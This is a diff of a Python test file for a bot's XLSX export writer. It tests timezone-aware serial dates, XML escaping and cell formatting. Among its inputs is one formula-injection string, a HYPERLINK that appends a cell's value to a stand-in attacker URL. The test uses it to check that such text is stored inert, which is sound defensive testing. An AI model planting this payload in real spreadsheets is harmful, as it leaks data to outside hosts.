@@ -22,7 +22,7 @@ from sqlalchemy import select, update
 from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
 
 from bot.callbacks import CaseAct
-from bot.services import case_posts, cases, export, months, roster
+from bot.services import case_posts, cases, export, export_xlsx, months, roster
 from bot.services.errors import Forbidden, Invalid
 from bot.settings import Settings
 from bot.texts import Texts
@@ -795,14 +795,92 @@ def test_the_bot_starts_without_the_workbook_writer() -> None:
 
 
 def test_local_times_across_a_change_of_offset() -> None:
-    """The export's naive UTC → local conversion (an offset looked up once per hour) gives what
-    astimezone gives, also in the hours when a zone changes its clocks (Berlin, 2026)."""
+    """The export's naive UTC → local serial day (an offset looked up once per UTC hour, SQLite's
+    text of a time read by position) gives what astimezone and excel_serial give, for the text
+    and for a datetime (PostgreSQL's), also in the hours when a zone changes its clocks
+    (Berlin, Lord Howe's half hour, 2026) and past local midnight in a zone of a 45-minute
+    offset (Kathmandu)."""
     for zone in ("Europe/Berlin", "Europe/Moscow", "Australia/Lord_Howe", "Asia/Kathmandu"):
         tz = ZoneInfo(zone)
-        local = export._local(tz)
+        serials = export_xlsx.LocalSerials(tz)
         moment = datetime(2026, 1, 1, tzinfo=UTC)
         while moment.year == 2026:
             naive_utc = moment.replace(tzinfo=None)
-            assert local(naive_utc) == moment.astimezone(tz).replace(tzinfo=None), (zone, moment)
+            expected = export_xlsx.excel_serial(moment.astimezone(tz).replace(tzinfo=None))
+            stored = f"{naive_utc:%Y-%m-%d %H:%M:%S.%f}"  # as SQLite holds it
+            assert serials(stored) == expected, (zone, stored)
+            assert serials(naive_utc) == expected, (zone, moment)
             moment += timedelta(minutes=7, microseconds=1)
-    assert local(None) is None
+    berlin = export_xlsx.LocalSerials(ZoneInfo("Europe/Berlin"))
+    # A time stored without its microseconds (not by SQLAlchemy) is read too.
+    changed = datetime(2026, 3, 29, 1, 30, tzinfo=UTC)  # 03:30 CEST, after the change
+    assert berlin("2026-03-29 01:30:00") == export_xlsx.excel_serial(datetime(2026, 3, 29, 3, 30))
+    assert berlin(changed.replace(tzinfo=None)) == berlin("2026-03-29 01:30:00.000000")
+
+
+def test_each_kind_of_cell_as_the_reference_writes_it() -> None:
+    """The row writer made for a sheet's columns gives, cell by cell, what the plain
+    functions give: texts escaped (only when they need it), characters a workbook cannot hold
+    left out, spaces at the edges kept, a formula-like text a text; names from the table, the
+    others as stored or the fixed text; days and times as serial days; None and "" no cell."""
+    texts = [
+        "просто текст",
+        "Павел <b>Новиков</b> & Co",
+        "Клиент\x0bждал\x1f ответа\x01",
+        "\x01",
+        "  пробелы по краям ",
+        "\tтаб",
+        "строка 1\nстрока 2\r\n",
+        '=HYPERLINK("https://evil.example.com/?"&A1,"Открыть")',
+        "=1+2",
+        "\u00a0неразрывный",
+    ]
+    columns = [
+        export_xlsx.ColumnSpec(export_xlsx.NUMBER),
+        export_xlsx.ColumnSpec(export_xlsx.TEXT),
+        export_xlsx.ColumnSpec(export_xlsx.NAME, names={"new": "новый", "odd": "<&>"}),
+        export_xlsx.ColumnSpec(export_xlsx.NAME, names={None: "бот"}, other="запись"),
+        export_xlsx.ColumnSpec(export_xlsx.DAY, number_format="DD.MM.YYYY"),
+        export_xlsx.ColumnSpec(export_xlsx.MOMENT, number_format="DD.MM.YYYY HH:MM"),
+    ]
+    styles = ["", "", "", "", ' s="1"', ' s="2"']
+    moscow = export_xlsx.LocalSerials(MOSCOW)
+    write = export_xlsx._row_writer(columns, styles, moscow)
+    rows: list[tuple[Any, ...]] = [
+        (7, text, text, text, "2026-03-29", "2026-03-29 00:30:00.000001") for text in texts
+    ]
+    rows += [
+        (0.1 + 0.2, None, "new", None, date(2026, 3, 29), datetime(2026, 3, 29, 0, 30)),
+        (None, "", "odd", "", None, None),
+        (10**15, "x", "", "y", "1900-02-28", "2026-10-24 21:00:00.000000"),
+    ]
+    expected_rows = []
+    for number, (count, free, name, action, day, moment) in enumerate(rows, start=2):
+        shown_name = {"new": "новый", "odd": "<&>"}.get(name, name)
+        shown_action = "бот" if action is None else "запись"
+        day_value = date.fromisoformat(day) if isinstance(day, str) else day
+        cells = [
+            None if count is None else f'<c r="A{number}"><v>{count:.16g}</v></c>',
+            f'<c r="B{number}" t="inlineStr"><is>{export_xlsx.text_xml(free)}</is></c>'
+            if free
+            else None,
+            f'<c r="C{number}" t="inlineStr"><is>{export_xlsx.text_xml(shown_name)}</is></c>'
+            if shown_name
+            else None,
+            f'<c r="D{number}" t="inlineStr"><is>{export_xlsx.text_xml(shown_action)}</is></c>',
+            None
+            if day_value is None
+            else f'<c r="E{number}" s="1"><v>{export_xlsx.excel_serial(day_value)}</v></c>',
+            None if moment is None else f'<c r="F{number}" s="2"><v>{moscow(moment)}</v></c>',
+        ]
+        expected_rows.append(
+            f'<row r="{number}">' + "".join(cell for cell in cells if cell) + "</row>"
+        )
+    assert write(rows, 2) == "".join(expected_rows)
+    # The escaping itself, as the openpyxl writer did it.
+    assert export_xlsx.text_xml("Клиент\x0bждал\x1f ответа\x01") == "<t>Клиентждал ответа</t>"
+    assert export_xlsx.text_xml(" <a> & b") == '<t xml:space="preserve"> &lt;a&gt; &amp; b</t>'
+    assert export_xlsx.excel_serial(date(1900, 2, 28)) == "59"  # Excel's 29.02.1900 skipped
+    assert moscow("2026-03-29 00:30:00.000001") == export_xlsx.excel_serial(
+        datetime(2026, 3, 29, 3, 30, 0, 1)
+    )
